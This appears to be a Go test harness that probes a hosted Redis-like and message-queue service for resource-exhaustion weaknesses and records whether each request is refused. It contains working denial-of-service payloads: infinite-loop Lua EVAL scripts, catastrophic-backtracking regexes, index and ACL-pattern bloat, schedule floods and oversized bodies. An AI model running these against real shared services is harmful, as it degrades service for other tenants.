package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// refusedOrDone are the statuses of what is done within the budget, or refused for it.
var refusedOrDone = []int{200, 201, 202, 400, 412, 413, 429, 503}

func eval(script string) hogRequest { return command("EVAL", script, "0") }

// prose is a text of n words that no other document has.
func prose(doc, n int) string {
	return strings.ReplaceAll(join(n, func(i int) string { return fmt.Sprintf("w%do%d", doc, i) }), ",", " ")
}

// regexes is a filter of so many costly expressions.
func regexes(n int) string {
	return `{"$or":[` + join(n, func(i int) string { return fmt.Sprintf(`{"f0":{"$regex":"(.*w.*o){5}%d"}}`, i) }) + "]}"
}

var priced = []pricedAttack{
	{name: "c1-indexes", about: "10 search indexes of 256 fields over the same text of 60 documents",
		before: prepared(10, func(i int) hogRequest {
			return argv(256, func(k int) []string { return []string{fmt.Sprint("f", k), "TEXT", "FROM", "t"} }, "SEARCH.CREATE", fmt.Sprint("i", i), "ON", "HASH", "PREFIX", "1", "doc:", "SCHEMA")
		}),
		try: inTurn(func(ctx context.Context, t *Target) (string, error) {
			for i := range 60 {
				if err := t.run(ctx, command("HSET", fmt.Sprint("doc:", i), "t", prose(i, 800))); err != nil {
					return "refused: " + err.Error(), nil
				}
			}
			return "60 documents written", nil
		}, later(15*time.Second), func(ctx context.Context, t *Target) (string, error) {
			suspended := 0
			for i := range 10 {
				if r := t.own(ctx, "SEARCH.COUNT", fmt.Sprint("i", i), "{}"); strings.Contains(string(r.body), "is suspended on this node") {
					suspended++
				}
			}
			return fmt.Sprintf("%d indexes suspended", suspended), nil
		})},
	{name: "c2-scripts", about: "tonumber of 400,000 digits, == of 4 MB, long keys, in loops",
		try: answered([]int{400}, eval("local s = string.rep('1', 400000) while true do tonumber(s) end"),
			eval("local a, b = string.rep('a', 4000000), string.rep('a', 4000000) while true do local x = a..'' == b end"),
			eval("local t, k = {}, string.rep('k', 1000000) while true do t[k..#t] = 1 end"))},
	{name: "c3-groups", about: "20,000 endpoints added to a URL group and 100,000 names removed",
		try: answered(refusedOrDone, endpoints(http.MethodPost, 0, 20_000), endpoints(http.MethodPost, 0, 20_000), endpoints(http.MethodDelete, 10_000, 100_000))},
	{name: "c4-ticks", about: "60 schedules a second on a group of 8,000 endpoints",
		before: prepared(8, func(i int) hogRequest { return endpoints(http.MethodPost, 1000*i, 1000) }),
		try: func(ctx context.Context, t *Target) (string, error) {
			made := 0
			for range 60 {
				r := t.do(ctx, hogRequest{path: "/v2/schedules/g", header: http.Header{"Upstash-Cron": {"@every 1s"}, "Upstash-Delay": {"1d"}}, body: "b"})
				if r.status/100 == 2 {
					made++
				}
			}
			return fmt.Sprintf("%d schedules", made), pause(ctx, 20*time.Second)
		}},
	{name: "c5-expressions", about: "ARGREP with (.*a){20}b over 8 MB, from a script",
		before: prepared(8, func(i int) hogRequest {
			return argv(1000, func(int) []string { return []string{strings.Repeat("a", 1000)} }, "ARSET", "a", fmt.Sprint(1000*i))
		}),
		try: answered(refusedOrDone, eval("return #redis.call('ARGREP', 'a', '-', '+', 'RE', '(.*a){20}b')"), command("ARGREP", "a", "-", "+", "RE", "(.*a){20}b"))},
	{name: "c6-patterns", about: "a user of 40,000 patterns; MSET of 20,000 keys by one of 10,000",
		try: inTurn(answered(refusedOrDone, argv(40_000, func(i int) []string { return []string{fmt.Sprintf("~*a%d*b", i)} }, "ACL", "SETUSER", "many")),
			answered(refusedOrDone, argv(9_000, func(i int) []string { return []string{fmt.Sprintf("~*a%d*b", i)} }, "ACL", "SETUSER", "some", "on", ">secret", "+@all")),
			func(_ context.Context, t *Target) (string, error) {
				keys := []string{"MSET"}
				for i := range 20_000 {
					keys = append(keys, fmt.Sprint("key", i), "v")
				}
				began := time.Now()
				line, err := t.once(0, []string{"AUTH", Attacker + "/some", "secret"}, keys)
				return fmt.Sprintf("MSET: %.60q after %v", line, time.Since(began).Round(time.Millisecond)), err
			})},
	{name: "c7-bodies", about: "2 MiB to 200 endpoints, five times",
		before: prepared(1, func(int) hogRequest { return endpoints(http.MethodPost, 0, 200) }),
		try: func(ctx context.Context, t *Target) (string, error) {
			seen := ""
			for range 5 {
				r := t.do(ctx, hogRequest{path: "/v2/publish/g", header: http.Header{"Upstash-Delay": {"1d"}}, body: strings.Repeat("b", 2<<20)})
				seen += fmt.Sprint(r.status, " ")
			}
			return "statuses " + seen, nil
		}},
	{name: "h1-searches", about: "a filter of 200 regular expressions over 300 documents",
		before: all(prepared(1, func(int) hogRequest {
			return command("SEARCH.CREATE", "i", "ON", "HASH", "PREFIX", "1", "doc:", "SCHEMA", "f0", "TEXT")
		}), prepared(300, func(i int) hogRequest {
			return command("HSET", fmt.Sprint("doc:", i), "f0", prose(i, 1500))
		})),
		try: answered(refusedOrDone, command("SEARCH.QUERY", "i", regexes(200)), command("SEARCH.QUERY", "i", regexes(20)))},
	{name: "h2-half-commands", about: "100 connections with an unfinished SET of 10 MB; BLPOP of 30,000 keys",
		try: halfCommands},
	{name: "h3-values", about: "values of 9 MB, which the victims feel: see neighbours",
		try: answered(refusedOrDone, command("SET", "k", strings.Repeat("x", 9_000_000)), command("SET", "k", strings.Repeat("x", 9_000_000)))},
	{name: "h4-elements", about: "/v2/batch of 40 MiB of {}",
		try: answered(refusedOrDone, hogRequest{path: "/v2/batch", body: "[" + strings.TrimSuffix(strings.Repeat("{},", 40<<20/3), ",") + "]"})},
	{name: "m1-links", about: "a link to a command of the console", try: links},
	{name: "m2-logs", about: "destinations with credentials that are refused", try: secretsInLogs},
}
